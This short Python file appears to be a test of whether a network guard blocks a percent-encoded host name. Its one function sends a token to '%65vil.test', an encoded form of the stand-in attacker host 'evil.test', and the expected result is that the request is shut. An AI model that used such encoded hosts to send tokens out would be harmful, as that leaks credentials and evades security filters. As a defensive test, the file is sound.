"""
how: for a name that is written in percents
expect: shut
"""

from web import get, http


def attempt(token):
    return http(get("%65vil.test", "/" + token))
